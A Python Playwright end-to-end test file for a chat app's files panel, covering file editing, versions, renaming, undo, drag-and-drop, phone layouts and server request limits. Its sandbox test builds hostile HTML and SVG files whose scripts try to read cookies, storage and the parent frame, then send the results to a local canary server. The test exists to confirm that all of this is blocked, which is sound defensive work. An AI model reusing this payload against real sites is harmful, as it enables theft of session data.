"""Files beside the conversation: the journey of a person, and what a hostile file can reach: nothing."""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Error, FilePayload, Page, expect

from tests import documents
from tests.e2e.conftest import PATIENCE_MS, NewContext, RunningTrellis, screenshot
from tests.e2e.people import ADMIN, MEMBER, enter, expect_idle, open_chat, tool_card
from tests.e2e.screens import DESK

TABLE = {"name": "numbers.csv", "mimeType": "text/csv", "buffer": b"city,people\nUlm,126000\n"}


class Canary:
    """Counts every connection that is made to it, whatever for."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.origin = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.connections.append(connection.recv(200))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    self.connections.append(b"")

    def stop(self) -> None:
        self._socket.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    listening = Canary()
    yield listening
    listening.stop()


def hostile(origin: str) -> dict[str, str]:
    """An active document of each kind that tries everything and writes down how far it came."""
    script = f"""
      const out = {{ran: true, origin: self.origin}};
      const attempt = (name, work) => {{
        try {{ const got = work(); out[name] = got === undefined ? "reached" : String(got); }}
        catch (error) {{ out[name] = error.name; }}
      }};
      attempt("cookie", () => document.cookie || "empty");
      attempt("storage", () => {{ localStorage.x = 1; }});
      attempt("session", () => {{ sessionStorage.x = 1; }});
      attempt("database", () => {{ indexedDB.open("x"); }});
      attempt("parent", () => parent === self ? "none" : parent.document.title);
      attempt("top", () => {{ if (top !== self) top.location = "{origin}/top"; else throw new RangeError(); }});
      attempt("popup", () => window.open("{origin}/popup") ? "reached" : "blocked");
      attempt("socket", () => {{ new WebSocket("{origin.replace("http", "ws")}/socket"); return "tried"; }});
      attempt("beacon", () => navigator.sendBeacon("{origin}/beacon") ? "tried" : "blocked");
      Promise.allSettled([
        fetch("{origin}/fetch"), fetch("/api/conversations/", {{credentials: "include"}}),
      ]).then((all) => {{
        out.fetch = all.map((one) => one.status).join();
        document.documentElement.setAttribute("data-result", JSON.stringify(out));
        setTimeout(() => {{ location = "{origin}/away?" + encodeURIComponent(JSON.stringify(out)); }}, 300);
      }});
    """
    page = f"""<!doctype html><html><head>
      <meta http-equiv="refresh" content="1;url={origin}/refresh">
      <link rel="preconnect" href="{origin}"><link rel="dns-prefetch" href="{origin}">
      <link rel="prefetch" href="{origin}/prefetch"><link rel="stylesheet" href="{origin}/css">
      <style>@import "{origin}/import"; p {{ background: url({origin}/background) }}</style></head>
      <body><p>visible</p><img src="{origin}/img"><iframe src="{origin}/frame"></iframe>
      <form action="{origin}/form" id="f"></form><script>{script};
      try {{ document.getElementById("f").submit() }} catch (e) {{}}</script>
      <script src="{origin}/script"></script></body></html>"""
    drawing = f"""<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40">
      <image href="{origin}/image" width="10" height="10"/><text y="20">visible</text>
      <script><![CDATA[{script}]]></script></svg>"""
    return {"evil.html": page, "evil.svg": drawing}


def upload(page: Page, name: str, content: str) -> None:
    """Add a file by the panel's button."""
    if page.locator("#files-panel").count() == 0:
        page.get_by_role("button", name=re.compile("of this conversation")).click()
    elif page.get_by_role("button", name="All files").count():
        page.get_by_role("button", name="All files").click()
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Add a file").click()
    kind = "text/html" if name.endswith("html") else "image/svg+xml"
    chooser.value.set_files({"name": name, "mimeType": kind, "buffer": content.encode()})


def test_a_file_is_written_read_changed_compared_restored_and_deleted(member: Page) -> None:
    """REL-1533: the bud writes a note; the person edits it, looks at what changed, and takes everything back again."""
    open_chat(member, "Writer", "Write a note about bees")
    card = tool_card(member)
    expect(card).to_contain_text("succeeded")
    expect_idle(member)
    card.get_by_role("button", name="bees.md").click()
    panel = member.locator("#files-panel")
    expect(panel.get_by_role("heading", name="bees.md")).to_be_focused()
    expect(panel.get_by_role("heading", name="Bees", exact=True)).to_be_visible()
    screenshot(member, "files")
    cut = "title => title.scrollWidth - title.clientWidth"
    assert member.locator(".chat-title").evaluate(cut) <= 0
    panel.get_by_role("button", name="Edit").click()
    text = panel.get_by_role("textbox", name="Content of bees.md")
    expect(text).to_have_value(re.compile("# Bees"))
    text.fill("# Bees\n\nThey make honey.\n")
    panel.get_by_role("button", name="Save as version 2").click()
    expect(panel).to_contain_text("They make honey.")
    panel.get_by_role("button", name="Compare").click()
    expect(panel.get_by_role("status").first).to_contain_text("1 added, ")
    expect(panel.locator("[data-change=added]")).to_contain_text("They make honey.")
    panel.get_by_role("combobox", name="Version").select_option("1")
    panel.get_by_role("button", name="Restore").click()
    expect(panel.get_by_role("combobox", name="Version")).to_have_value("3")
    panel.get_by_role("button", name="More about bees.md").click()
    member.get_by_role("button", name="Rename…").click()
    panel.get_by_role("textbox", name="Name of the file").fill("honey.md")
    member.keyboard.press("Enter")
    expect(panel.get_by_role("heading", name="honey.md")).to_be_visible()
    panel.get_by_role("button", name="More about honey.md").click()
    member.get_by_role("button", name="Delete", exact=True).click()
    expect(panel).to_contain_text("No files yet")
    member.get_by_role("button", name="Undo").click()
    expect(panel.get_by_role("button", name="honey.md", exact=False).first).to_be_visible()
    # A file that is dropped onto the conversation goes along with the next message.
    transfer = member.evaluate_handle(
        "() => { const t = new DataTransfer(); t.items.add(new File(['city,people\\nUlm,126000\\n'], 'numbers.csv')); return t; }"
    )
    for kind in ("dragenter", "dragover", "drop"):
        member.dispatch_event(".drop-area", kind, {"dataTransfer": transfer})
    expect(member.get_by_role("list", name="Attachments")).to_contain_text("numbers.csv")
    panel.get_by_role("button", name="numbers.csv").first.click()
    expect(panel.get_by_role("columnheader", name="people")).to_be_visible()
    member.keyboard.press("Escape")
    expect(panel).to_have_count(0)
    expect(member.get_by_role("button", name="2 files of this conversation")).to_be_visible()


def test_two_people_at_one_file_are_told_of_each_other(new_context: NewContext) -> None:
    """Ours: what another tab saves is shown at once, and an editor that began before it says so."""
    context = new_context()
    first = context.new_page()
    enter(first, MEMBER)
    open_chat(first, "Writer", "Write a note about bees")
    expect_idle(first)
    second = context.new_page()
    second.goto(first.url)
    for page in (first, second):
        tool_card(page).get_by_role("button", name="bees.md").click()
        page.get_by_role("combobox", name="Version").wait_for()
    first.locator("#files-panel").get_by_role("button", name="Edit").click()
    text = first.get_by_role("textbox", name="Content of bees.md")
    expect(text).to_have_value(re.compile("# Bees"))
    second.locator("#files-panel").get_by_role("button", name="Edit").click()
    other = second.get_by_role("textbox", name="Content of bees.md")
    expect(other).to_have_value(re.compile("# Bees"))
    other.fill("from the second tab")
    second.get_by_role("button", name="Save as version 2").click()
    expect(first.get_by_role("alert")).to_contain_text("Version 2 was saved in the meantime")
    text.fill("from the first tab")
    expect(first.get_by_role("button", name=re.compile("Save as version"))).to_be_disabled()
    first.get_by_role("button", name="Keep editing mine").click()
    first.get_by_role("button", name="Save as version 3").click()
    expect(second.locator("#files-panel")).to_contain_text("from the first tab")


# What a browser says when it stops something is what this test wants to read.
@pytest.mark.parametrize("name", ["evil.html", "evil.svg"])
def test_an_active_file_reaches_nothing(
    browser: Browser, canary: Canary, trellis: RunningTrellis, name: str
) -> None:
    """SEC-85, SEC-83: in the preview, by its direct address and by the preview's own address: no cookie, no storage, no
    parent, no network; and its scripts run only in the frame, when the person starts them."""
    context = browser.new_context(base_url=trellis.url, service_workers="block")
    context.set_default_timeout(PATIENCE_MS)
    member = context.new_page()
    enter(member, MEMBER)
    open_chat(member, "Writer", "hello")
    expect_idle(member)
    upload(member, name, hostile(canary.origin)[name])
    frame = member.frame_locator("iframe.file-frame")
    root = frame.locator(":root")
    expect(root).to_contain_text("visible")
    expect(root).not_to_have_attribute("data-result", re.compile(""))
    preview = member.locator("iframe.file-frame").get_attribute("src") or ""
    # By itself, and as the file itself: the first runs nothing either, the second is only ever saved.
    alone = context.new_page()
    alone.goto(preview)
    expect(alone.locator("body, svg").first).to_contain_text("visible")
    assert alone.evaluate("self.origin") == "null"
    with alone.expect_download() as saving, pytest.raises(Error, match="Download"):
        alone.goto(preview.replace("preview/", ""))
    assert saving.value.suggested_filename == name
    alone.wait_for_timeout(1500)  # longer than its attempts to go elsewhere take
    assert alone.url == f"{trellis.url}{preview}"
    assert alone.locator(":root").get_attribute("data-result") is None
    assert canary.connections == []
    start = member.get_by_role("button", name="Run scripts")
    if name.endswith("svg"):
        expect(start).to_have_count(0)
    else:
        start.click()
        # Found and read in one step: the document goes away soon afterwards.
        outcome = frame.locator(":root[data-result]").get_attribute("data-result")
        result = json.loads(outcome or "{}")
        assert result["origin"] == "null"
        for reach in ("cookie", "storage", "session", "database", "parent", "top"):
            assert result[reach] == "SecurityError", (reach, result)
        assert result["fetch"] == "rejected,rejected"
        assert result["popup"] in {"blocked", "SecurityError"}
        member.wait_for_timeout(1500)
        # A browser may open a connection before it asks the policy; nothing is ever said on it.
        assert not any(canary.connections)
    assert member.url.startswith(trellis.url)
    context.close()


def test_a_body_without_end_is_cut(trellis: RunningTrellis) -> None:
    """SEC-78: the running server closes on a chunked body beyond its limit, and on a declared one at once."""
    place = urlsplit(trellis.url)

    def answer_to(head: bytes, most: int) -> tuple[bytes, int]:
        chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
        sent = 0
        where = (place.hostname or "", place.port or 80)
        with socket.create_connection(where, PATIENCE_MS / 1000) as line:
            line.sendall(head)
            try:
                while sent < most:
                    line.sendall(chunk)
                    sent += 0x10000
            except OSError:
                pass
            try:
                return line.recv(200), sent
            except OSError:
                return b"", sent

    start = b"POST /api/conversations/ HTTP/1.1\r\nHost: localhost\r\n"
    status, sent = answer_to(start + b"Transfer-Encoding: chunked\r\n\r\n", 1024 * 1024 * 1024)
    # Its limit, what is read and thrown away so that the answer arrives, and what is on its way.
    assert sent < 320 * 1024 * 1024
    assert status[:12] in {b"", b"HTTP/1.1 413"}
    status, _ = answer_to(start + b"Content-Length: 1000000000\r\n\r\n", 0)
    assert status.startswith(b"HTTP/1.1 413")


def test_a_form_is_not_read_before_its_sender_is_known(trellis: RunningTrellis) -> None:
    """SEC-655: the server leaves the form of a body to the view; read on its event loop, a file held up everybody."""
    place = urlsplit(trellis.url)
    # No part of this form begins, so whoever reads it says that it is none.
    form = b"no part begins here"
    head = (
        "POST /api/chat-imports/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        f"Content-Type: multipart/form-data; boundary=here\r\nContent-Length: {len(form)}\r\n\r\n"
    )
    with socket.create_connection((place.hostname or "", place.port or 80), 30) as line:
        line.sendall(head.encode() + form)
        answer = line.makefile("rb").read()
    assert answer.startswith(b"HTTP/1.1 401"), answer[:200]
    assert b"not_authenticated" in answer


@pytest.mark.screens(DESK, reason="is about phones, in sizes of its own")
def test_the_panel_fits_a_phone_and_the_night(new_context: NewContext, browser: Browser) -> None:
    """Ours: at 360 px the panel is a sheet over everything, which Escape closes; in the dark too."""
    context = new_context(viewport={"width": 360, "height": 740}, color_scheme="dark")
    page = context.new_page()
    enter(page, MEMBER)
    open_chat(page, "Writer", "Write a web page about our garden")
    expect_idle(page)
    tool_card(page).get_by_role("button", name="our-garden.html").click()
    sheet = page.get_by_role("dialog", name="Files of this conversation")
    expect(sheet.get_by_role("heading", name="our-garden.html")).to_be_visible()
    frame = page.frame_locator("iframe.file-frame")
    expect(frame.get_by_role("heading", name="Our garden")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert sheet.evaluate("(d) => d.scrollWidth <= d.clientWidth")
    screenshot(page, "files-phone")
    page.keyboard.press("Escape")
    expect(sheet).to_have_count(0)


@pytest.mark.screens(DESK, reason="is about phones, in sizes of its own")
def test_on_a_phone_a_deleted_file_can_be_brought_back(new_context: NewContext) -> None:
    """REL-804: notes are shown over the sheet, and their buttons can be pressed. A refused name is told at its field."""
    page = new_context(viewport={"width": 390, "height": 740}).new_page()
    enter(page, MEMBER)
    open_chat(page, "Writer", "Write a note about bees")
    expect_idle(page)
    page.get_by_role("button", name="1 file of this conversation").click()
    sheet = page.get_by_role("dialog", name="Files of this conversation")
    with page.expect_file_chooser() as chooser:
        sheet.get_by_role("button", name="Add a file").click()
    chooser.value.set_files([FilePayload(name="a.txt", mimeType="text/plain", buffer=b"A text")])

    expect(sheet.get_by_role("heading", name="a.txt")).to_be_visible()
    sheet.get_by_role("button", name="More about a.txt").click()
    sheet.get_by_role("button", name="Rename…").click()
    name = sheet.get_by_role("textbox", name="Name of the file")
    name.fill("bees.md")
    name.press("Enter")
    expect(sheet.get_by_role("alert")).to_contain_text("There is a file named")
    expect(name).to_be_focused()
    screenshot(page, "files-refused-name")
    name.press("Escape")

    sheet.get_by_role("button", name="All files").click()
    sheet.get_by_role("button", name="More about a.txt").click()
    sheet.get_by_role("button", name="Delete", exact=True).click()
    expect(sheet.get_by_role("button", name="More about")).to_have_count(1)
    expect(sheet.get_by_role("heading", name="Files")).to_be_focused()
    screenshot(page, "files-undo")
    page.get_by_role("button", name="Undo").click()
    expect(sheet.get_by_role("button", name="More about a.txt")).to_be_visible()


def test_a_file_dropped_on_the_panel_is_added_and_escape_closes_one_thing(member: Page) -> None:
    """REL-805: where nothing takes a file, dropping it does not leave the page. One that is too large is named."""
    open_chat(member, "Writer", "Write a note about bees")
    expect_idle(member)
    tool_card(member).get_by_role("button", name="bees.md").click()
    panel = member.locator("#files-panel")
    transfer = member.evaluate_handle(
        "() => { const t = new DataTransfer(); t.items.add(new File(['A text'], 'a.txt')); return t; }"
    )
    area = panel.locator(".drop-area")
    for kind in ("dragenter", "dragover"):
        area.dispatch_event(kind, {"dataTransfer": transfer})
    expect(panel).to_contain_text("Drop files to add them to this chat")
    area.dispatch_event("drop", {"dataTransfer": transfer})
    expect(panel.get_by_role("heading", name="a.txt")).to_be_visible()
    expect(panel).to_contain_text("A text")
    for kind in ("dragover", "drop"):
        leaves = member.locator("#sidebar").evaluate(
            "(side, [kind, dataTransfer]) => side.dispatchEvent("
            "new DragEvent(kind, {dataTransfer, bubbles: true, cancelable: true}))",
            [kind, transfer],
        )
        assert not leaves

    panel.get_by_role("button", name="All files").click()
    with member.expect_file_chooser() as chooser:
        panel.get_by_role("button", name="Add a file").click()
    most = member.evaluate("JSON.parse(document.getElementById('boot').textContent).max_file_bytes")
    big = FilePayload(name="big.bin", mimeType="application/x-data", buffer=bytes(most + 1))
    small = FilePayload(name="b.txt", mimeType="text/plain", buffer=b"Small")
    chooser.value.set_files([big, small])
    expect(panel.get_by_role("button", name="More about b.txt")).to_be_visible()
    notice = member.get_by_text("“big.bin” was not added. Too large. A file can have up to")
    expect(notice).to_be_visible()

    more = panel.get_by_role("button", name="More about a.txt")
    more.click()
    expect(panel.get_by_role("button", name="Delete", exact=True)).to_be_visible()
    member.keyboard.press("Escape")
    expect(panel.get_by_role("button", name="Delete", exact=True)).to_have_count(0)
    expect(more).to_be_focused()
    member.keyboard.press("Escape")
    expect(panel).to_have_count(0)


def test_a_bud_learns_a_file_and_its_answers_lead_to_the_page(page: Page) -> None:
    """REL-494: added in the editor, cited in an answer, opened at the cited page, and removed."""
    enter(page, ADMIN, at="/w/demo/buds/")
    page.get_by_role("link", name="Clock").first.click()
    knowledge = page.get_by_role("region", name="Knowledge")
    book = documents.pdf([f"The vacation rule of part {number}" for number in range(1, 4)])
    with page.expect_file_chooser() as chooser:
        knowledge.get_by_role("button", name="Add files").click()
    chooser.value.set_files(
        [
            FilePayload(name="rules.pdf", mimeType="application/pdf", buffer=book),
            FilePayload(name="scan.png", mimeType="image/png", buffer=documents.png()),
        ]
    )
    expect(knowledge.get_by_text("3 parts")).to_be_visible()
    expect(knowledge.get_by_role("list")).to_contain_text("There is no text in this kind of file")
    editor = page.url
    open_chat(page, "Clock", "Search the knowledge files for 'vacation'")
    expect_idle(page)
    page.get_by_role("button", name="rules.pdf, p. 2").click()
    panel = page.get_by_label("Files of this conversation")
    expect(panel.locator("[data-cited]")).to_contain_text("The vacation rule of part 2")
    page.goto(editor)
    page.get_by_role("button", name="Remove rules.pdf").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(page.get_by_text("No files yet.")).to_be_visible()
